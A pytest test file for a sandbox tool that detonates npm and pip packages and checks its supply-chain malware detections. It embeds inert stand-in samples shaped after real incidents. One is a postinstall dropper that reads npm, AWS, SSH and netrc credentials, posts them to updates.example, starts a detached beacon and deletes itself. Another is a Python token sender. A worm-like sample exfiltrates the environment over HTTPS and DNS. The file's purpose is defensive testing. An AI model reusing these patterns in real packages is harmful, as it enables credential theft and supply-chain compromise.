"""`pratique detonate` with real npm and pip: inert stand-ins in the shapes of incidents show what they do in a sandbox.

The command runs as a user runs it. Names are reserved ones and reach the sandbox's own sink.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from pratique.adapters.sandbox import unusable
from pratique.report import detonation_schema
from tests.standins.packages import IN_WINDOW
from tests.standins.real_clients import FOLDER, need
from tests.standins.registry import Registry

REASON = unusable()
pytestmark = pytest.mark.skipif(bool(REASON), reason=f"nothing can be contained here: {REASON}")
SHAPES = Path(__file__).parents[1] / "standins" / "shapes"

DROPPER = """\
// Inert: the shape of a dropper. It sends what lies in places of credentials, all of it made up, to a reserved name.
const fs = require("fs"), os = require("os"), path = require("path"), http = require("http"), cp = require("child_process");
let taken = "";
for (const one of [".npmrc", ".aws/credentials", ".ssh/id_ed25519", ".netrc"]) {
  try { taken += fs.readFileSync(path.join(os.homedir(), one), "utf8"); } catch {}
}
const request = http.request({ host: "updates.example", port: 8000, method: "POST", path: "/6202033" }, () => {
  const drop = path.join(os.tmpdir(), "ld.py");
  fs.writeFileSync(drop, `import socket, time
beacon = socket.create_connection(("updates.example", 8000))
beacon.sendall(b"POST /beacon HTTP/1.1\\\\r\\\\nHost: updates.example\\\\r\\\\nContent-Length: 2\\\\r\\\\n\\\\r\\\\nup")
time.sleep(30)
`);
  cp.execSync(`sh -c "nohup python3 ${drop} > /dev/null 2>&1 &"`);
  fs.unlinkSync(__filename);
  fs.renameSync("package.md", "package.json");
  process.exit(0);
});
request.end(Buffer.from(taken).toString("base64"));
"""


class Run:
    """One command: its exit code, its streams, its report."""

    def __init__(self, result: subprocess.CompletedProcess[str]) -> None:
        self.code, self.out, self.errors = result.returncode, result.stdout, result.stderr

    @property
    def report(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads(self.out)
        Draft202012Validator(detonation_schema.schema()).validate(found)
        return found

    def of(self, persona: str = "laptop") -> dict[str, Any]:
        """The run of one persona."""
        return next(one for one in self.report["runs"] if one["persona"] == persona)


def kinds(run: dict[str, Any]) -> set[str]:
    return {one["kind"] for one in run.get("behaviours", [])}


def rules(run: dict[str, Any]) -> set[str]:
    return {one["rule"] for one in run.get("detections", [])}


Detonate = Callable[..., Run]


@pytest.fixture
def detonate(tmp_path: Path) -> Detonate:
    need("npm-11")
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "node").symlink_to(next(FOLDER.glob("node-22*/node_modules/node/bin/node")))
    (tools / "npm").symlink_to(next(FOLDER.glob("npm-11*/node_modules/npm/bin/npm-cli.js")))

    def run(*arguments: object, before: Sequence[str] = (), registry: str = "") -> Run:
        words = [*before, sys.executable, "-m", "pratique", "detonate", "--linger", "0.3"]
        words += [*([] if registry else ["--offline"]), *(str(one) for one in arguments)]
        path = os.pathsep.join((str(tools), os.path.dirname(sys.executable), "/usr/bin", "/bin"))
        given = {
            "PATH": path,
            "HOME": str(tmp_path),
            "PYTHONPATH": os.pathsep.join(sys.path),
            "PRATIQUE_ISOLATED": "no",
        }
        given |= {"npm_config_registry": registry} if registry else {}
        return Run(
            subprocess.run(
                words, cwd=tmp_path, env=given, capture_output=True, text=True, timeout=100, check=False,
                stdin=subprocess.DEVNULL,
            )
        )  # fmt: skip

    return run


def packed(
    folder: Path, name: str, version: str = "1.0.0", files: dict[str, str] | None = None, **manifest: Any
) -> Path:
    """A tarball of npm."""
    source = folder / f"{name}-source"
    source.mkdir()
    (source / "package.json").write_text(json.dumps({"name": name, "version": version, **manifest}), "utf-8")
    for path, text in (files or {"index.js": "'use strict';\n"}).items():
        (source / path).write_text(text, "utf-8")
    archive = folder / f"{name}-{version}.tgz"
    with tarfile.open(archive, "w:gz") as made:
        made.add(source, "package")
    return archive


def dropper(folder: Path) -> tuple[Path, Path]:
    """A package with a dependency that is a dropper."""
    files = {
        "setup.js": DROPPER,
        "index.js": "",
        "package.md": json.dumps({"name": "plain-anchor", "version": "4.2.0"}),
    }
    dependency = packed(folder, "plain-anchor", "4.2.1", files, scripts={"postinstall": "node setup.js"})
    return packed(folder, "anchor", "1.14.1", None, dependencies={"plain-anchor": "^4.2.0", "rope": "^2"}), dependency


def test_a_dropper_behind_a_dependency_is_seen_from_end_to_end(detonate: Detonate, tmp_path: Path) -> None:
    page, events = tmp_path / "page.html", tmp_path / "events.ndjson"
    archives = dropper(tmp_path)
    ran = detonate("--json", "--html", page, "--events", events, *archives)
    assert ran.code == 13, ran.errors
    assert ran.report["level"] == "block"
    assert [one["name"] for one in ran.report["releases"] if one.get("suspect", True)] == ["anchor"]
    assert any("rope" in gap and "stood in" in gap for gap in ran.report["gaps"])
    for persona in ("laptop", "ci"):
        run = ran.of(persona)
        assert [step["code"] for step in run["steps"]] == [0, 0]
        assert {
            "honeytoken.sent", "credential.read", "program.dropped", "process.survived", "manifest.replaced",
            "self.deleted", "integrity", "name.asked", "network.reached", "file.left",
        } <= kinds(run)  # fmt: skip
        assert {"honeytoken", "credential-harvest", "exec-from-drop", "manifest-swap", "detached-survivor"} <= rules(
            run
        )
        sent = next(one for one in run["payloads"] if one.get("honeytokens"))
        assert (sent["host"], sent["port"], sent["method"]) == ("updates.example", 8000, "POST")
        assert {"npm token", "AWS secret key", "SSH key", "netrc password"} <= set(sent["honeytokens"])
        assert any(one["path"] == "/beacon" for one in run["payloads"])
        assert [one["path"] for one in run["dropped"]] == ["/tmp/ld.py"]
        assert run["survivors"][0]["arguments"] == ["python3", "/tmp/ld.py"]
        assert "updates.example" in run["names"]
        caused = {one["cause"]["name"] for one in run["events"] if one.get("cause")}
        assert caused == {"plain-anchor"}
    text = page.read_text("utf-8")
    assert "<script" not in text
    assert "<svg" in text
    assert "python3 /tmp/ld.py" in text
    first, *lines = [json.loads(line) for line in events.read_text("utf-8").splitlines()]
    assert first == {"schema": "pratique.event/1"}
    assert {one["persona"] for one in lines} == {"laptop", "ci"}


def test_no_value_of_a_planted_credential_stands_in_a_report(detonate: Detonate, tmp_path: Path) -> None:
    show = (
        "console.log(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'), process.env.NPM_TOKEN)\n"
    )
    ran = detonate("--json", "--persona", "ci", packed(tmp_path, "anchor", files={"index.js": show}))
    assert "npm_" not in ran.out.replace("npm_package", "").replace("npm_config", "")
    assert "<npm token>" in ran.of("ci")["output"]


def test_an_ordinary_package_shows_nothing(detonate: Detonate, tmp_path: Path) -> None:
    ran = detonate("--json", packed(tmp_path, "anchor"))
    assert ran.code == 0, ran.out
    assert ran.report["level"] == "nothing"
    run = ran.of()
    assert run.get("behaviours", []) == []
    assert run["subtracted"]["process.start"] >= 2
    assert run["subtracted"]["files"] >= 1


def test_a_script_that_only_speaks_is_a_note(detonate: Detonate, tmp_path: Path) -> None:
    said = packed(tmp_path, "anchor", scripts={"postinstall": "node -e \"console.log('thank you')\""})
    ran = detonate("--persona", "laptop", said)
    assert ran.code == 0, ran.out
    assert ran.out.startswith("NOTE")
    assert "thank you" in ran.out


def test_it_needs_no_rights_of_root(detonate: Detonate, tmp_path: Path) -> None:
    before: list[str] = []
    if os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("needs setpriv to become another account")
        reading = "+dac_read_search"  # so that it may start this Python wherever it lies
        before = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        before += [f"--inh-caps={reading}", f"--ambient-caps={reading}"]
        tmp_path.chmod(0o777)
    ran = detonate("--json", "--persona", "root", *dropper(tmp_path), before=before)
    if "Permission denied" in ran.errors and os.geteuid() == 0:
        pytest.skip("another account cannot reach the programs of this one")
    assert ran.code == 13, ran.errors
    assert {"honeytoken.sent", "program.dropped", "process.survived"} <= kinds(ran.of("root"))


def test_where_nothing_can_be_contained_nothing_is_run(detonate: Detonate, tmp_path: Path) -> None:
    if shutil.which("unshare") is None:
        pytest.skip("needs unshare to forbid namespaces")
    closed = 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"'
    ran = detonate(*dropper(tmp_path), before=["unshare", "-Ur", "sh", "-c", closed, "sh"])
    assert ran.code == 2
    assert "no release can be contained here: a user namespace" in ran.errors
    assert "Nothing was run" in ran.errors


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["nowhere.tgz"], "does not exist"),
        (["https://registry.example/anchor.tgz"], "which is not fetched"),
        (["npm:anchor@1.0.0"], "cannot be had"),
    ],
)
def test_what_cannot_be_had_is_said(detonate: Detonate, arguments: list[str], said: str) -> None:
    ran = detonate(*arguments)
    assert ran.code == 2
    assert said in ran.errors
    assert "Traceback" not in ran.errors


def test_what_does_not_end_is_ended_and_told(detonate: Detonate, tmp_path: Path) -> None:
    waits = packed(tmp_path, "anchor", scripts={"postinstall": "sleep 60"})
    begun = time.monotonic()
    ran = detonate("--json", "--persona", "laptop", "--time", "2", waits)
    assert time.monotonic() - begun < 15
    assert ran.code == 4
    assert ran.of()["timed_out"]
    assert ran.of()["steps"][0]["code"] is None


# Python


def wheel(folder: Path, files: dict[str, str], name: str = "anchor", wants: Sequence[str] = ()) -> Path:
    archive = folder / f"{name}-1.0.0-py3-none-any.whl"
    about = f"{name}-1.0.0.dist-info"
    lines = [f"Requires-Dist: {one}\n" for one in wants]
    with zipfile.ZipFile(archive, "w") as made:
        for path, text in files.items():
            made.writestr(path, text)
        made.writestr(f"{about}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n{''.join(lines)}")
        made.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        made.writestr(f"{about}/RECORD", "")
    return archive


SENDS = """\
# Inert: sends a made-up credential of the environment, hexadecimal, to a reserved name by a port of its own.
import os, socket
with socket.create_connection(("collect.example", 4443), 5) as out:
    out.sendall(os.environ.get("NPM_TOKEN", "").encode().hex().encode())
"""


def test_what_an_import_does_is_its_packages(detonate: Detonate, tmp_path: Path) -> None:
    ran = detonate("--json", "--persona", "laptop", wheel(tmp_path, {"anchor.py": SENDS}, wants=["rope>=2.1"]))
    assert ran.code == 13, ran.errors + ran.out
    run = ran.of()
    assert [step["code"] for step in run["steps"]] == [0, 0, 0], run["output"]
    (sent,) = run["payloads"]
    assert (sent["host"], sent["port"], sent["honeytokens"]) == ("collect.example", 4443, ["NPM_TOKEN"])
    assert sent["encodings"] == ["NPM_TOKEN (hex)"]
    event = next(one for one in run["events"] if one["kind"] == "network.payload")
    assert event["cause"]["name"] == "anchor"
    assert event["cause"]["step"] == "import"


def test_a_path_file_acts_when_python_starts(detonate: Detonate, tmp_path: Path) -> None:
    files = {"anchor.pth": "import anchor_start\n", "anchor_start.py": SENDS, "anchor.py": ""}
    run = detonate("--json", "--persona", "laptop", wheel(tmp_path, files)).of()
    steps = {one.get("cause", {}).get("step") for one in run["events"] if one["kind"] == "network.payload"}
    assert "start" in steps


def test_what_a_build_does_is_seen(detonate: Detonate, tmp_path: Path) -> None:
    ran = detonate("--json", "--persona", "ci", SHAPES / "build-stealer")
    run = ran.of("ci")
    assert ran.code == 13, ran.errors + ran.out
    assert run["steps"][0]["code"] == 0, run["output"]
    assert "credential.read" in kinds(run)
    assert {one["cause"]["name"] for one in run["events"] if one.get("cause")} == {"anchor"}


def test_an_ordinary_wheel_shows_nothing(detonate: Detonate, tmp_path: Path) -> None:
    ran = detonate("--json", "--persona", "laptop", wheel(tmp_path, {"anchor.py": "x = 1\n"}))
    assert ran.code == 0, ran.out
    assert ran.report["level"] == "nothing"


SHAPED = {
    "dead-mans-switch": {"persistence.written", "process.survived"},
    "dropper-linux": {"credential.read", "manifest.replaced", "self.deleted", "integrity"},
    "editor-persistence": {"persistence.written"},
    "fetched-runtime": {"program.started"},
    "miner": {"program.dropped", "process.survived", "network.reached"},
    "names-out": {"program.started"},
    "native-build": {"credential.read", "program.dropped"},
    "self-deletion": {"self.deleted", "integrity"},
}


@pytest.mark.parametrize("shape", SHAPED)
def test_a_shape_of_an_incident_is_seen(detonate: Detonate, tmp_path: Path, shape: str) -> None:
    source = tmp_path / "source"
    shutil.copytree(SHAPES / shape, source)
    ran = detonate("--json", "--persona", "laptop", source)
    run = ran.of()
    assert SHAPED[shape] <= kinds(run), run["output"]
    own = [one for one in run["behaviours"] if one["kind"] in SHAPED[shape] and one.get("cause")]
    assert {one["cause"]["name"] for one in own} == {"anchor"}


WORM = """\
// Inert: the shape of a worm. It sends a made-up token by TLS, publishes to the sandbox's registry, and asks names.
const https = require("https"), http = require("http"), dns = require("dns"), zlib = require("zlib");
const token = process.env.NPM_TOKEN || "";
const body = zlib.gzipSync(JSON.stringify({ env: process.env }));
https.request({ host: "collect.example", method: "POST", path: "/v1/e", headers: { "Content-Length": body.length } }).on("error", () => {}).end(body);
http.request({ host: "registry.test", method: "PUT", path: "/anchor", headers: { Authorization: `Bearer ${token}`, "Content-Length": 2 } }).on("error", () => {}).end("{}");
const hex = Buffer.from(token).toString("hex");
for (let at = 0; at * 40 < hex.length; at++) dns.lookup(`${at}.${hex.slice(at * 40, at * 40 + 40)}.names.example`, () => {});
"""


def test_tls_publishing_and_names_carry_what_was_planted(detonate: Detonate, tmp_path: Path) -> None:
    ran = detonate("--json", "--persona", "ci", packed(tmp_path, "anchor", files={"index.js": WORM}))
    assert ran.code == 13, ran.errors
    run = ran.of("ci")
    by = {(one["protocol"], one["host"]): one for one in run["payloads"]}
    secure = by["https", "collect.example"]
    assert {"NPM_TOKEN", "GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN"} <= set(secure["honeytokens"])
    assert "NPM_TOKEN (gzip)" in secure["encodings"]
    published = by["http", "registry.test"]
    assert (published["method"], published["honeytokens"]) == ("PUT", ["NPM_TOKEN"])
    named = [one for one in run["events"] if one["kind"] == "network.payload" and one["protocol"] == "dns"]
    assert [one["honeytokens"] for one in named] == [["NPM_TOKEN"]]
    assert {one["cause"]["step"] for one in named} == {"import"}


def test_a_wheel_is_installed_though_this_python_has_one_of_its_name(detonate: Detonate, tmp_path: Path) -> None:
    archive = tmp_path / "pip-99.0-py3-none-any.whl"
    wheel(tmp_path, {"pip/__init__.py": SENDS}, "pip").rename(tmp_path / "unnamed")
    with zipfile.ZipFile(tmp_path / "unnamed") as old, zipfile.ZipFile(archive, "w") as made:
        for one in old.infolist():
            text = old.read(one).replace(b"Version: 1.0.0", b"Version: 99.0")
            made.writestr(one.filename.replace("pip-1.0.0", "pip-99.0"), text)
    run = detonate("--json", "--persona", "laptop", archive).of()
    assert run["steps"][0]["code"] == 0, run["output"]
    assert [one["honeytokens"] for one in run["payloads"]][:1] == [["NPM_TOKEN"]]
    assert not [one for one in run["events"] if one["kind"].startswith("integrity")]


def test_a_release_of_a_registry_is_fetched_with_what_it_depends_on(detonate: Detonate, tmp_path: Path) -> None:
    with Registry(as_of=IN_WINDOW) as registry:
        ran = detonate("--json", "--persona", "laptop", "npm:axios@1.14.1", registry=registry.url)
    assert ran.code == 13, ran.errors
    found = {one["name"]: one.get("suspect", True) for one in ran.report["releases"]}
    assert found == {"axios": True, "plain-crypto-js": False, "@standin/redirects": False}
    assert ran.report["gaps"] == []
    assert {"self.deleted", "integrity", "manifest.replaced"} <= kinds(ran.of())
